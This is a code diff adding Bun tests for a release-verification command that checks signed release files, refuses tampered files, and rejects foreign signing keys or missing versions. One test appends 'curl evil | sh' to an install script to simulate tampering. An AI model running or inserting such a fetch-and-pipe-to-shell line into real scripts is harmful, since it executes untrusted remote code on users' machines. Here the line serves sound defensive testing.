@@ -15,6 +15,8 @@ import {
 import { join } from "node:path";
 import { z } from "zod";
 import { artifactFor, detectPlatform, findRelease, readReleaseKey } from "../../internal/kit/release/index.ts";
+import { signFolder } from "../../scripts/lib/release-folder.ts";
+import { signerOf } from "../../scripts/lib/release-signing.ts";
 import { BUN, ROOT } from "../../scripts/lib/spawn.ts";
 import { goProgram } from "../bed/go-program.ts";
 import { type Registry, registryMissing, startRegistry } from "../bed/registry.ts";
@@ -151,6 +153,41 @@ test("the runner finds, verifies and knows its own program in it, from a web ser
   } finally {
     await host.end();
   }
+});
+
+describe("`runner release verify`, by the key that the program was made with", () => {
+  const verify = (place: string, ...more: string[]) => {
+    const done = Bun.spawnSync([program(), "release", "verify", place, ...more], { env: { HOME: folder } });
+    return { code: done.exitCode, said: done.stdout.toString(), error: done.stderr.toString() };
+  };
+
+  test("reads every file, from a folder and from a web server", async () => {
+    const { code, said } = verify(made, "--json");
+    expect(code).toBe(0);
+    expect(JSON.parse(said)).toMatchObject({ version: VERSION, files: 6, program: program().slice(made.length + 1) });
+    const host = await serveReleases(at("releases"));
+    try {
+      const child = Bun.spawn([program(), "release", "verify", host.url, VERSION], { env: { HOME: folder } });
+      expect([await child.exited, await new Response(child.stdout).text()]).toEqual([
+        0,
+        expect.stringContaining("6 files are what was signed"),
+      ]);
+    } finally {
+      await host.end();
+    }
+  });
+
+  test("refuses a changed file by its name, another maker's release, and a version that is not there", () => {
+    const changed = at("changed");
+    mkdirSync(changed);
+    for (const file of readdirSync(made)) copyFileSync(join(made, file), join(changed, file));
+    appendFileSync(join(changed, "install.sh"), "curl evil | sh\n");
+    expect(verify(changed)).toMatchObject({ code: 4, error: expect.stringContaining("install.sh is not the file") });
+    const { privateKey } = generateKeyPairSync("ed25519");
+    signFolder(changed, signerOf(privateKey));
+    expect(verify(changed)).toMatchObject({ code: 4, error: expect.stringContaining("not one of the trusted key") });
+    expect(verify(made, "1.0.0")).toMatchObject({ code: 2, error: expect.stringContaining("no version 1.0.0") });
+  });
 });
 
 test("the bill of materials names every package in the program with version, licence, address and checksum", () => {
